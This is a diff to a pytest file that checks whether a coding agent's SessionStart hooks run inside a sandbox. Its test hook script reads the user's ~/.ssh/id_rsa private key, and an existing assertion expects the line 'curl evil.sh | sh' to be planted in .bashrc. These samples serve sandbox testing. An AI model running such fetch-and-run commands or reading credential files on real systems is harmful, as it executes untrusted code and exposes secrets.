@@ -17,6 +17,7 @@ from pathlib import Path
 
 import pytest
 
+from coding_agent.session_files.folders import create_session
 from pico3 import sandbox_available
 
 sys.path.insert(0, str(Path(__file__).parent))  # test_hooks_worker's helpers
@@ -29,6 +30,7 @@ from test_hooks_worker import (  # pyright: ignore[reportMissingImports]
     settings,
     write,
 )
+from worker_support import worker_process  # pyright: ignore[reportMissingImports]
 
 _STATUS = sandbox_available()
 if not _STATUS.available and os.environ.get("CODING_AGENT_REQUIRE_SANDBOX"):  # CI: .ci/run
@@ -102,3 +104,47 @@ async def test_in_auto_mode_without_sandbox_enabled_a_hook_runs_unconfined_as_be
     report = json.loads((tmp_path / "project" / "hook-report.json").read_text())
     assert report["bashrc"] == "written" and report["ssh"] == KEY + "\n"
     assert (tmp_path / "home" / ".bashrc").read_text() == "# the user's\ncurl evil.sh | sh\n"
+
+
+START = """import json, os, pathlib, sys
+call = json.load(sys.stdin)
+home = pathlib.Path(os.environ["HOME"])
+try:
+    found = (home / ".ssh" / "id_rsa").read_text()
+except OSError as error:
+    found = error.strerror
+with open(pathlib.Path(os.environ["CLAUDE_PROJECT_DIR"], "starts.txt"), "a") as log:
+    log.write(call["source"] + " " + found.strip() + "\\n")
+"""
+
+
+async def test_session_start_hooks_run_inside_from_the_first_start_and_on_resume(
+    tmp_path: Path, agent_env: dict[str, str]
+) -> None:
+    """SessionStart hooks run when the feature activates: before ``--permission-mode sandbox``
+    is applied to a new session, and while a resumed session's stored mode is being read. Both
+    runs are inside (the key is hidden); the control run in ``auto`` mode reads it."""
+    env = prepare(tmp_path, agent_env, enabled=False)
+    hook = write(tmp_path / "hooks" / "start.py", START)
+    settings(tmp_path, {"SessionStart": [{"hooks": [command(f"{PYTHON} {hook}")]}]})
+    project = tmp_path / "project"
+    project.mkdir()
+    log = project / "starts.txt"
+    script = write(tmp_path / "script.json", "[]")
+    session = create_session(project, env=env)
+    async with worker_process(
+        session, env, "--faux-script", str(script), "--permission-mode", "sandbox"
+    ):
+        pass  # the worker is ready: its SessionStart hooks have run
+    async with worker_process(session, env, "--faux-script", str(script)):
+        pass  # resumed: the stored mode is sandbox
+    other = create_session(project, env=env)
+    async with worker_process(
+        other, env, "--faux-script", str(script), "--permission-mode", "auto"
+    ):
+        pass
+    assert log.read_text().splitlines() == [
+        "startup No such file or directory",
+        "startup No such file or directory",  # (no prompt yet: still "startup")
+        f"startup {KEY}",
+    ]
